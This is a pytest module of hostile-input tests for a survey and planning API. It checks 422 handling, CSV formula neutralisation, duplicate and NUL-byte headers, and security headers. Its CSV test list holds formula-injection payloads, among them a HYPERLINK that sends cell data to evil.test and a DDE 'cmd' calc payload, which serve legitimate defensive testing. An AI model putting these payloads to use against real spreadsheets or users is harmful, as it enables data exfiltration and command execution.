"""Hostile input, tried as an attacker would (loopback only):

- a value the database cannot store is a 422 naming its pointer, never a
  500: a submitted_at that is no instant, integers sent as reals (1.0, -0.0),
  and a sweep of odd values through every member of every write body;
- what partners send reaches the admin CSV neutralised: no cell begins with
  =, +, -, @, a tab or a CR, and the file still reads back into the answers;
- a header that may come once, sent twice, or a NUL byte in a header, is a
  400 (Kore keeps every copy and hands out the first; it drops every header
  after a NUL);
- every response carries X-Content-Type-Options: nosniff, and /docs its
  Content-Security-Policy;
- lenient checks made strict: ids that are not strings, hour 24 and second
  60, the time zones localtime and Factory, the pointer of an unknown member
  of a batch, and an explicit "submitted_at": null on a resend.

Every request has a timeout; every loop is bounded.
"""

import base64
import csv
import hashlib
import io
import json
import os
import re
import socket
import time
import uuid
from html.parser import HTMLParser

import pytest

import partners as p
import plan_edits as pe
from conftest import Api, _parse_raw
from partners import cleanup_surveys  # noqa: F401  (autouse: drops this module's surveys)

pytestmark = p.needs_harness

NOT_INSTANTS = ["2021-02-30T00:00:00Z", "", "now", "2021-01-01T00:00:00+25:00",
                "2021-01-01T24:00:00Z", "2021-01-01T00:00:60Z", "2021-12-31T23:59:60Z",
                "allballs", "epoch", "2021-01-01", "12345"]


def pointers_of(r, status=422, slug="invalid-body"):
    return p.pointers(p.problem(r, status, slug))


def bad_header(r, name):
    """A 400 invalid-header problem whose errors name the header."""
    body = p.problem(r, 400, "invalid-header")
    assert [e.get("header") for e in body.get("errors", [])] == [name], body
    return body


# --- 1. 500 instead of 422 ------------------------------------------------------------

@pytest.mark.parametrize("value", NOT_INSTANTS)
def test_a_submitted_at_that_is_no_instant_is_a_422_at_its_pointer(survey, partner, value):
    body = dict(p.response_body(), submitted_at=value)
    r = p.submit(survey, body, partner["key"])
    assert pointers_of(r) == ["/submitted_at"]
    assert p.survey_response_count(survey) == 0


def test_the_batch_refuses_the_same_submitted_at_item_by_item(survey, partner):
    bodies = [dict(p.response_body(), submitted_at=v) for v in NOT_INSTANTS] + [p.response_body()]
    r = p.post(p.responses_path(survey) + "/batch", {"responses": bodies}, partner["key"])
    results = p.ok_json(r)["results"]
    assert [x["status"] for x in results] == [422] * len(NOT_INSTANTS) + [201], results
    for x in results[:-1]:
        assert p.pointers(x["problem"]) == ["/submitted_at"], x


@pytest.mark.parametrize("offset,utc", [
    ("2021-01-02T10:00:00+23:00", "2021-01-01T11:00:00Z"),
    ("2021-01-01T00:00:00-23:59", "2021-01-01T23:59:00Z"),
    ("2021-01-01T16:00:00+16:00", "2021-01-01T00:00:00Z"),
])
def test_an_offset_beyond_what_postgresql_reads_is_stored_as_the_same_instant(survey, partner,
                                                                              offset, utc):
    # RFC 3339 allows offsets to 23:59; PostgreSQL reads them up to 15:59.
    got = p.submit_ok(survey, dict(p.response_body(), submitted_at=offset), partner["key"])
    assert got["submitted_at"] == utc, got
    batch = p.ok_json(p.post(p.responses_path(survey) + "/batch", {"responses": [
        dict(p.response_body(), submitted_at=offset)]}, partner["key"]))["results"]
    assert batch[0]["status"] == 201 and batch[0]["response"]["submitted_at"] == utc, batch


@pytest.mark.parametrize("value", [1.0, -0.0, 1e0, 2.5])
@pytest.mark.parametrize("kind", ["goal", "objective"])
def test_a_position_sent_as_a_real_is_a_422_on_create_and_on_patch(kind, value):
    w = pe.build(shape=(2, 1))
    before = pe.state()
    if kind == "goal":
        create = p.post(pe.goal_path(w.plan), {"title": "G", "position": value}, pe.ADMIN)
        change = p.patch(pe.goal_path(w.plan, w.goals[1]), {"position": value}, pe.ADMIN)
    else:
        create = p.post(pe.objective_path(w.plan), {"title": "O", "goal": w.goals[0],
                                                     "position": value}, pe.ADMIN)
        change = p.patch(pe.objective_path(w.plan, w.all_objectives[1]), {"position": value},
                         pe.ADMIN)
    assert pointers_of(create) == ["/position"]
    assert pointers_of(change) == ["/position"]
    assert pe.state() == before


def test_a_plan_period_sent_as_reals_is_a_422():
    r = p.post("/v1/plans", pe.plan_body(period={"start": 2020.0, "end": 2024}), pe.ADMIN)
    assert pointers_of(r) == ["/period/start"]
    plan = pe.create_plan()["id"]
    r = p.patch(pe.plan_path(plan), {"update_period": {"start": 2021, "end": 2.022e3}}, pe.ADMIN)
    assert pointers_of(r) == ["/update_period/end"]


@pytest.mark.parametrize("member,value", [("min", -0.0), ("min", 1.0), ("max", 2.0),
                                          ("max_length", 5.0)])
def test_a_question_setting_sent_as_a_real_is_a_422(member, value):
    q = ({"id": "t", "prompt": "P", "type": "text"} if member == "max_length" else
         {"id": "t", "prompt": "P", "type": "choices", "options": ["a", "b", "c"]})
    q[member] = value
    r = p.post_survey(p.survey_body(questions=[q]))
    assert pointers_of(r) == ["/questions/0/" + member]
    survey = p.make_survey()["id"]
    r = p.patch("/v1/surveys/" + survey, {"questions": [q]}, p.ADMIN_KEY)
    assert pointers_of(r) == ["/questions/0/" + member]


# Odd values, each sent alone in one member of a good body: a wrong type, a
# real, negative zero, a huge number, an empty and an overlong string, no
# instant, an offset PostgreSQL cannot read, nested junk. None may give a 5xx
# (nor an item of a batch a 500), and the server logs no error for them.
ODD_VALUES = [None, True, 12345, 1.0, -0.0, 1e300, "", "x" * 10001, "2021-02-30T00:00:00Z",
              "2021-01-01T00:00:00+25:00", {"a": [[]]}]


def _sweep_targets():
    """(name, method, path, key, make_body, members) for every write body;
    members are paths into the body (tuples), top-level and a few nested."""
    w = pe.build(shape=(2, 2))
    survey = p.make_survey()["id"]
    partner = p.create_key()["key"]

    def plan_body():
        return pe.plan_body(purpose_statement="p", mission="m", status="draft",
                            adopted_on="2020-01-01", period={"start": 2020, "end": 2024},
                            update_period={"start": 2021, "end": 2022})

    def survey_post():
        return p.survey_body(description="d", timezone="America/Chicago")

    def survey_patch():
        b = survey_post()
        del b["id"], b["plan"]
        return b

    def response():
        return dict(p.response_body(color="red", tags=["a"], comment="hi"), channel="web",
                    submitted_at="2021-01-01T00:00:00Z")

    def void_path():
        return p.responses_path(survey) + "/" + p.submit_ok(survey, p.response_body(),
                                                              partner)["id"] + "/void"

    def top(body):
        return [(k,) for k in body]

    q = [("questions", 1, k) for k in ("id", "type", "min", "max")] + \
        [("questions", 3, "options"), ("questions", 4, "max_length")]
    objective = w.all_objectives[0]
    return [
        ("plan-post", "POST", lambda: "/v1/plans", pe.ADMIN, plan_body,
         [("id",), ("title",), ("mission",), ("status",), ("adopted_on",), ("period",),
          ("period", "start"), ("update_period", "end")]),
        ("plan-patch", "PATCH", lambda: pe.plan_path(w.plan), pe.ADMIN,
         lambda: {k: v for k, v in plan_body().items() if k not in ("id", "status")},
         [("adopted_on",), ("period",), ("period", "end"), ("update_period", "start")]),
        ("goal-post", "POST", lambda: pe.goal_path(w.plan), pe.ADMIN,
         lambda: {"title": "G", "statement": "S", "position": 1, "status": "active"},
         [("id",), ("title",), ("position",), ("status",)]),
        ("goal-patch", "PATCH", lambda: pe.goal_path(w.plan, w.goals[0]), pe.ADMIN,
         lambda: {"title": "G", "position": 1}, [("position",), ("status",)]),
        ("objective-post", "POST", lambda: pe.objective_path(w.plan), pe.ADMIN,
         lambda: {"goal": w.goals[0], "title": "O", "position": 1},
         [("id",), ("goal",), ("position",)]),
        ("objective-patch", "PATCH", lambda: pe.objective_path(w.plan, objective), pe.ADMIN,
         lambda: {"goal": w.goals[1], "title": "O"}, [("goal",), ("position",), ("status",)]),
        ("priorities-put", "PUT", lambda: pe.priorities_path(w.plan, 2030), pe.ADMIN,
         lambda: pe.priorities_body(w.all_objectives[:2]),
         [("decided_on",), ("decided_by",), ("objectives",), ("objectives", 0)]),
        ("survey-post", "POST", lambda: "/v1/surveys", p.ADMIN_KEY, survey_post,
         [(k,) for k in ("id", "plan", "title", "opens_at", "timezone", "status",
                         "results_visibility", "questions")] + q),
        ("survey-patch", "PATCH", lambda: "/v1/surveys/" + survey, p.ADMIN_KEY, survey_patch,
         [("opens_at",), ("closes_at",), ("timezone",), ("status",)]),
        ("key-post", "POST", lambda: "/v1/keys", p.ADMIN_KEY,
         lambda: {"name": "n", "role": "partner", "surveys": [survey]},
         [("name",), ("role",), ("surveys",), ("surveys", 0)]),
        ("response-post", "POST", lambda: p.responses_path(survey), partner, response,
         top(response()) + [("answers", k) for k in ("top", "tags", "comment")]),
        ("batch-post", "POST", lambda: p.responses_path(survey) + "/batch", partner,
         lambda: {"responses": [response()]},
         [("responses",), ("responses", 0), ("responses", 0, "submitted_at"),
          ("responses", 0, "external_id")]),
        ("void-post", "POST", void_path, p.ADMIN_KEY, lambda: {"reason": "r"}, [("reason",)]),
    ]


def _with(body, path, value):
    if not path:
        return value
    body = json.loads(json.dumps(body))
    node = body
    for k in path[:-1]:
        node = node[k]
    node[path[-1]] = value
    return body


def test_odd_values_in_every_member_of_every_write_body_never_give_a_5xx():
    run = uuid.uuid4().hex[:12]
    sent, failures = [], []
    for name, method, path, key, make, members in _sweep_targets():
        cases = [(m, v) for m in members for v in ODD_VALUES] + [((), v) for v in ODD_VALUES]

        def one(case, name=name, method=method, path=path, key=key, make=make):
            member, value = case
            rid = "hostile-%s-%s-%d" % (run, name, len(sent))
            rid += "-" + uuid.uuid4().hex[:8]
            r = p.call(method, path(), key, body=_with(make(), member, value),
                       headers={"X-Request-Id": rid})
            if r.status_code == 201 and name == "survey-post":
                with p._lock:   # dropped when the module ends (cleanup_surveys)
                    p._created_surveys.append(r.json()["id"])
            return rid, member, value, r

        for rid, member, value, r in p.concurrently(one, cases, threads=2, timeout=300):
            sent.append(rid)
            what = "%s %s = %.60r" % (name, "/".join(map(str, member)), value)
            if r.status_code >= 500 or r.status_code < 200:
                failures.append("%s: %d %s" % (what, r.status_code, r.content[:200]))
            elif name == "batch-post" and r.status_code == 200:
                failures += ["%s: item %d" % (what, x["status"]) for x in r.json()["results"]
                             if x["status"] >= 500]
    assert not failures, "\n".join(failures[:40])
    assert len(sent) > 700
    if p.SERVER_LOG and os.path.isfile(p.SERVER_LOG):
        with open(p.SERVER_LOG, "rb") as f:
            logged = [line for line in f.read().decode("utf-8", "replace").splitlines()
                      if "hostile-" + run in line]
        assert not logged, "\n".join(logged[:20])


# --- 2. CSV formula injection ---------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.test/?x="&A1,"Click")', "+SUM(1,2)",
            "=cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "'quoted", "''",
            "=", "plain", "a=b"]
FORMULA_START = tuple("=+-@\t\r")


def test_csv_cells_a_spreadsheet_could_run_begin_with_a_quote_and_read_back(partner):
    questions = [{"id": "note", "prompt": "Anything?", "type": "text", "required": False,
                  "max_length": 200}]
    survey = p.make_survey(questions=questions)["id"]
    for i, text in enumerate(FORMULAS):
        body = {"external_id": FORMULAS[(i + 1) % len(FORMULAS)] + "#%d" % i,
                "channel": FORMULAS[(i + 2) % len(FORMULAS)][:40] or "x",
                "answers": {"note": text}}
        p.submit_ok(survey, body, partner["key"])
    listed = p.walk(p.responses_path(survey) + "?limit=200", partner["key"])
    r = p.get(p.responses_path(survey) + "?limit=200", p.ADMIN_KEY, headers={"Accept": "text/csv"})
    assert r.status_code == 200 and p.media_type(r) == "text/csv", r.content[:300]
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8"), newline="")))
    header, rows = rows[0], rows[1:]
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), row
    # Read back: drop one leading single quote from every cell.
    back = [{k: (v[1:] if v.startswith("'") else v) for k, v in zip(header, row)} for row in rows]
    by_id = {x["id"]: x for x in listed}
    for row in back:
        x = by_id[row["id"]]
        assert row["external_id"] == x["external_id"], (row, x)
        assert row["channel"] == x["channel"], (row, x)
        assert row["note"] == x["answers"]["note"], (row, x)


# --- 5. Headers sent twice, NUL bytes ---------------------------------------------------

def raw_get(api, target, headers):
    return api.raw("GET", target, headers=headers)


def test_two_authorization_headers_are_400_not_the_first_one(api, partner):
    admin, other = "Bearer " + p.ADMIN_KEY, "Bearer " + partner["key"]
    for pair in ((admin, other), (other, admin), (admin, admin)):
        r = raw_get(api, "/v1/keys", [("Authorization", pair[0]), ("Authorization", pair[1])])
        bad_header(r, "Authorization")
    r = raw_get(api, "/v1/keys", [("Authorization", admin)])
    assert r.status_code == 200, r


@pytest.mark.parametrize("name,value,target", [
    ("Host", "127.0.0.1", "/v1/plans"),
    ("If-None-Match", '"0123456789abcdef"', "/v1/plans"),
    ("If-Match", "*", "/v1/plans"),
    ("Content-Type", "application/json", "/healthz"),
    ("Idempotency-Key", "k-1", "/healthz"),
    ("authorization", "Bearer " + "cpk_" + "A" * 43, "/v1/plans"),
])
def test_a_header_that_may_come_once_sent_twice_is_a_400_naming_it(api, name, value, target):
    r = raw_get(api, target, [(name, value), (name.upper(), value)])
    bad_header(r, {"authorization": "Authorization"}.get(name, name))


def raw_post(target, headers, body):
    """POST body with exactly these headers (and Host, Connection: close) on
    a new connection; the answer, read until the server closes it."""
    api = Api(p.BASE_URL)
    lines = ["POST %s HTTP/1.1" % target, "Host: %s:%d" % (api.host, api.port),
             "Connection: close"] + ["%s: %s" % h for h in headers]
    data = ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body
    chunks, deadline = [], time.monotonic() + p.TIMEOUT
    with socket.create_connection((api.host, api.port), timeout=p.TIMEOUT) as s:
        s.sendall(data)
        while True:
            assert time.monotonic() < deadline, b"".join(chunks)[:300]
            chunk = s.recv(65536)
            if not chunk:
                break
            chunks.append(chunk)
    return _parse_raw(b"".join(chunks))


def test_a_write_with_two_content_types_or_idempotency_keys_is_a_400(survey, partner):
    body = json.dumps(p.response_body()).encode()
    for name, values in (("Content-Type", ("application/json", "text/plain")),
                         ("Idempotency-Key", ("k-1", "k-2"))):
        headers = [("Authorization", "Bearer " + partner["key"]),
                   ("Content-Type", "application/json"), ("Content-Length", str(len(body)))]
        headers = [h for h in headers if h[0] != name] + [(name, v) for v in values]
        bad_header(raw_post(p.responses_path(survey), headers, body), name)
    assert p.survey_response_count(survey) == 0


def test_headers_that_may_repeat_still_do(api):
    r = raw_get(api, "/v1/plans", [("Accept", "application/json"), ("Accept", "*/*"),
                                   ("X-Note", "a"), ("X-Note", "b")])
    assert r.status_code == 200, r


def test_header_fields_near_the_servers_limit_are_read_whole(api):
    """Accept, If-None-Match and If-Match of about 7 KB (the server takes
    8 KB per header), longer than the fuzz harnesses' inputs: each is read
    range by range or tag by tag, to the end."""
    ranges = ", ".join("text/x-%d;q=0.5" % i for i in range(450))
    assert 6000 < len(ranges) < 8000
    r = raw_get(api, "/v1/plans", [("Accept", ranges)])
    assert r.status_code == 406, r
    r = raw_get(api, "/v1/plans", [("Accept", ranges + ", application/json")])
    assert r.status_code == 200, r
    etag = r.headers["ETag"]
    tags = ", ".join('"%016x"' % i for i in range(350))
    assert 6000 < len(tags) < 8000
    r = raw_get(api, "/v1/plans", [("If-None-Match", tags)])
    assert r.status_code == 200, r
    r = raw_get(api, "/v1/plans", [("If-None-Match", tags + ", " + etag)])
    assert r.status_code == 304, r
    # If-Match is read into 512 bytes: a longer list of tags is a 400.
    r = p.patch("/v1/plans/independence-2021", {"title": "x"}, p.ADMIN_KEY,
                headers={"If-Match": tags})
    bad_header(r, "If-Match")


def test_a_nul_byte_in_a_header_value_is_a_400_naming_the_header(api):
    # Kore would drop every header after the NUL: here, the key.
    r = raw_get(api, "/v1/keys", [("X-Note", "a\0b"), ("Authorization", "Bearer " + p.ADMIN_KEY)])
    bad_header(r, "X-Note")
    r = raw_get(api, "/v1/plans", [("If-None-Match", '"0123456789abcdef"\0, *')])
    bad_header(r, "If-None-Match")
    r = raw_get(api, "/healthz", [("X-Note", "\0")])
    assert r.status_code == 400, r


@pytest.mark.parametrize("target,headers", [
    ("/healthz", [("X-No\0te", "a")]),
    ("/heal\0thz", []),
    ("/healthz", [("X-Note", "a\0")]),
])
def test_a_nul_byte_anywhere_in_the_head_is_a_400(api, target, headers):
    r = raw_get(api, target.encode("latin-1"), headers)
    assert r.status_code == 400, r


def test_a_nul_byte_in_one_request_does_not_mark_the_next_on_the_connection(api):
    head = ("GET /healthz HTTP/1.1\r\nHost: %s:%d\r\n" % (api.host, api.port)).encode()
    with socket.create_connection((api.host, api.port), timeout=p.TIMEOUT) as s:
        answers = []
        for extra in (b"X-Note: a\0b\r\n", b""):
            s.sendall(head + extra + b"\r\n")
            data, deadline = b"", time.monotonic() + p.TIMEOUT
            while b"\r\n\r\n" not in data or not _complete(data):
                assert time.monotonic() < deadline, data
                chunk = s.recv(65536)
                assert chunk, data
                data += chunk
            answers.append(int(data.split(b" ", 2)[1]))
    assert answers == [400, 200]


def _complete(data):
    head, _, body = data.partition(b"\r\n\r\n")
    m = re.search(rb"(?im)^content-length:\s*(\d+)", head)
    return m is not None and len(body) >= int(m.group(1))


# --- 6. Security headers ----------------------------------------------------------------

def test_every_kind_of_response_carries_nosniff(api, survey, partner):
    etag = api.get("/v1/plans").headers["ETag"]
    answers = [
        api.get("/healthz"), api.get("/v1/plans"), api.head("/v1/plans"),
        api.get("/v1/plans", headers={"If-None-Match": etag}), api.options("/v1/plans"),
        api.get("/nowhere"), api.request("DELETE", "/v1/plans"),
        api.get("/v1/plans", headers={"Accept": "text/html"}), api.get("/v1/keys"),
        api.get("/openapi.json"), api.get("/docs"), api.get("/docs/swagger-ui.css"),
        api.get("/docs/swagger-ui-bundle.js"),
        p.get(p.responses_path(survey), p.ADMIN_KEY, headers={"Accept": "text/csv"}),
        p.submit(survey, {}, partner["key"]),
        p.call("POST", p.responses_path(survey), partner["key"],
               headers={"Content-Type": "application/json"}, data="{"),
    ]
    # Kore's own answers: a bad header line (400) and a POST without a length (411).
    answers.append(api.raw("GET", "/healthz", headers=[("Bad Header", "x")]))
    answers.append(api.raw("POST", "/v1/keys"))
    statuses = set()
    for r in answers:
        statuses.add(r.status_code)
        assert r.headers.get("X-Content-Type-Options") == "nosniff", (r.status_code, r.headers)
    assert {200, 204, 304, 400, 401, 404, 405, 406, 411, 422} <= statuses, statuses


class _Page(HTMLParser):
    def __init__(self):
        super().__init__()
        self.refs, self.scripts, self._in = [], [], False

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        self.refs += [a[n] for n in ("src", "href") if a.get(n) is not None]
        self._in = tag == "script" and "src" not in a
        if self._in:
            self.scripts.append("")

    def handle_endtag(self, tag):
        self._in = False

    def handle_data(self, data):
        if self._in:
            self.scripts[-1] += data


def test_the_docs_page_is_sent_with_a_csp_that_allows_only_its_own_assets(api):
    r = api.get("/docs")
    assert r.status_code == 200
    csp = r.headers.get("Content-Security-Policy")
    assert csp, r.headers
    policy = {d.split()[0]: d.split()[1:] for d in (x.strip() for x in csp.split(";")) if d}
    assert policy["default-src"] == ["'none'"], policy
    assert policy["connect-src"] == ["'self'"], policy
    assert policy["frame-ancestors"] == ["'none'"], policy
    page = _Page()
    page.feed(r.text)
    # What the page loads is its own, and allowed; its inline script by hash.
    for ref in page.refs:
        assert ref.startswith("data:") or (ref.startswith("/") and not ref.startswith("//")), ref
    for d in ("script-src", "style-src", "img-src", "font-src"):
        assert set(policy[d]) <= {"'self'", "'unsafe-inline'", "data:"} | {
            s for s in policy[d] if s.startswith("'sha256-")}, policy[d]
    assert page.scripts, "no inline script"
    for script in page.scripts:
        digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
        assert "'sha256-%s'" % digest in policy["script-src"], policy["script-src"]
    for asset in ("/docs/swagger-ui.css", "/docs/swagger-ui-bundle.js", "/openapi.json"):
        assert api.get(asset).status_code == 200, asset


# --- 7. Lenient validation made strict ------------------------------------------------------

@pytest.mark.parametrize("qid", [True, 12345, 1.5, None])
def test_a_question_id_that_is_not_a_string_is_a_422(qid):
    r = p.post_survey(p.survey_body(questions=[{"id": qid, "prompt": "P", "type": "agreement"}]))
    assert pointers_of(r) == ["/questions/0/id"]


@pytest.mark.parametrize("member,value", [("id", 12345), ("id", True), ("plan", True),
                                          ("status", True), ("results_visibility", ["public"])])
def test_survey_members_that_are_not_strings_are_a_422(member, value):
    r = p.post_survey(p.survey_body(**{member: value}))
    assert pointers_of(r) == ["/" + member]
    # Not because a survey took that id as a string before.
    assert "has this id" not in r.json()["errors"][0]["detail"], r.json()


@pytest.mark.parametrize("value", ["2031-01-01T24:00:00Z", "2031-01-01T00:00:60Z",
                                   "2031-01-01T12:00:00+24:00", "2031-13-01T00:00:00Z"])
def test_a_survey_window_at_hour_24_or_second_60_is_a_422(value):
    now = p.now_utc()
    r = p.post_survey(p.survey_body(opens_at=p.rfc3339(now), closes_at=value))
    assert pointers_of(r) == ["/closes_at"]
    survey = p.make_survey()["id"]
    r = p.patch("/v1/surveys/" + survey, {"opens_at": value}, p.ADMIN_KEY)
    assert pointers_of(r) == ["/opens_at"]


@pytest.mark.parametrize("zone", ["localtime", "Factory", "posixrules", "posix/America/Chicago",
                                  "right/UTC"])
def test_a_time_zone_that_is_not_an_iana_name_is_a_422(zone):
    r = p.post_survey(p.survey_body(timezone=zone))
    assert pointers_of(r) == ["/timezone"]


def test_iana_time_zones_are_still_taken():
    for zone in ("America/Chicago", "UTC", "Etc/GMT+6"):
        r = p.post_survey(p.survey_body(timezone=zone))
        assert p.ok_json(r, 201)["timezone"] == zone


@pytest.mark.parametrize("param", ["since", "until"])
def test_a_time_at_second_60_in_a_query_is_a_400(param):
    r = p.get("/v1/audit?%s=2021-01-01T00:00:60Z" % param, p.ADMIN_KEY)
    assert p.problem(r, 400, "invalid-parameter")["errors"][0]["parameter"] == param
    r = p.get("/v1/audit?%s=2021-01-01T10:00:00%%2B23:00" % param, p.ADMIN_KEY)
    assert r.status_code == 200, r.content[:300]


def test_a_since_at_second_60_or_beyond_postgresql_offsets_is_taken_or_refused(survey, partner):
    path = p.responses_path(survey)
    r = p.get(path + "?since=2021-01-01T00:00:60Z", partner["key"])
    assert p.problem(r, 400, "invalid-parameter")["errors"][0]["parameter"] == "since"
    r = p.get(path + "?since=2021-01-01T10:00:00%2B23:00", partner["key"])
    assert r.status_code == 200, r.content[:300]


def test_an_unknown_member_of_a_batch_is_named_at_its_own_pointer(survey, partner):
    path = p.responses_path(survey) + "/batch"
    r = p.post(path, {"responses": [p.response_body()], "bogus": 1, "a/b": 2}, partner["key"])
    assert sorted(pointers_of(r)) == ["/a~1b", "/bogus"]
    r = p.post(path, {"responses": [], "bogus": 1}, partner["key"])
    assert sorted(pointers_of(r)) == ["/bogus", "/responses"]
    r = p.post(path, [p.response_body()], partner["key"])
    assert pointers_of(r) == [""]
    assert p.survey_response_count(survey) == 0


@pytest.mark.parametrize("nulls", [{"submitted_at": None}, {"channel": None},
                                   {"submitted_at": None, "channel": None}])
def test_a_resend_with_explicit_nulls_is_the_same_as_leaving_them_out(survey, partner, nulls):
    body = p.response_body()
    first = p.submit_ok(survey, body, partner["key"])
    again = p.submit_ok(survey, dict(body, **nulls), partner["key"], status=200)
    assert again == first
    # And the other way round.
    body = dict(p.response_body(), **nulls)
    first = p.submit_ok(survey, body, partner["key"])
    again = p.submit_ok(survey, {k: v for k, v in body.items() if k not in nulls},
                        partner["key"], status=200)
    assert again == first


def test_a_resend_with_a_null_answer_is_the_same_as_leaving_it_out(survey, partner):
    body = p.response_body()
    first = p.submit_ok(survey, body, partner["key"])
    again = dict(body, answers=dict(body["answers"], color=None, comment=None))
    assert p.submit_ok(survey, again, partner["key"], status=200) == first
    # A null that is a fault is not taken for nothing.
    wrong = dict(body, answers=dict(body["answers"], nope=None))
    assert pointers_of(p.submit(survey, wrong, partner["key"])) == ["/answers/nope"]
